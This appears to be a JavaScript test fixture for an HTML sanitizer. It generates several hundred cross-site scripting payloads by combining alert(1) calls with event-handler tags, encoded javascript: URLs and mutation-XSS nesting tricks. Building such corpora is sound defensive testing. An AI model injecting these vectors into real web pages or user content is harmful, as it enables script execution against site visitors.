// Hundreds of descriptions that try to run `alert(1)`: elements and events that start a script by
// themselves or by a touch, in several spellings and places.
const payloads = ['alert(1)', 'window.alert(1)', 'top[`al`+`ert`](1)', 'setTimeout(alert)'];
const starters = [
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<IMG SRC=x OnErRoR='${run}'>`,
  (run) => `<img/src=x/onerror="${run}">`,
  (run) => `<image src=x onerror="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}"></audio>`,
  (run) => `<video src=x onerror="${run}"></video>`,
  (run) => `<svg><image href=x onerror="${run}"></image></svg>`,
  (run) => `<details open ontoggle="${run}">x</details>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe onload="${run}"></iframe>`,
  (run) => `<p onclick="${run}">x</p>`,
  (run) => `<p onmouseover="${run}">x</p>`,
  (run) => `<b onclick='${run}'>x</b>`,
  (run) => `<td onclick="${run}">x</td>`,
  (run) => `<button onclick="${run}">x</button>`,
  (run) => `<a href="#" onclick="${run}">x</a>`,
  (run) => `<a href="javascript:void ${run}">x</a>`,
  (run) => `<a href="JaVaScRiPt:void ${run}">x</a>`,
  (run) => `<a href=" javascript:void ${run}">x</a>`,
  (run) => `<a href="java&#10;script:void ${run}">x</a>`,
  (run) => `<a href="jav&Tab;ascript:void ${run}">x</a>`,
  (run) => `<a href="&#106;avascript:void ${run}">x</a>`,
  (run) => `<a href="javascript&colon;void ${run}">x</a>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<object data=x onerror="${run}"></object>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg><style><img src=x onerror="${run}"></style></svg>`,
];
const places = [
  (attack) => attack,
  (attack) => `<p>a ${attack} b</p>`,
  (attack) => `<table><tr><td>${attack}</td></tr></table>`,
];

/** The attacks are sorted from the plainest to the strangest. */
export function makeAttacks() {
  return places.flatMap((wrap) =>
    payloads.flatMap((run) => starters.map((start) => wrap(start(run)))),
  );
}
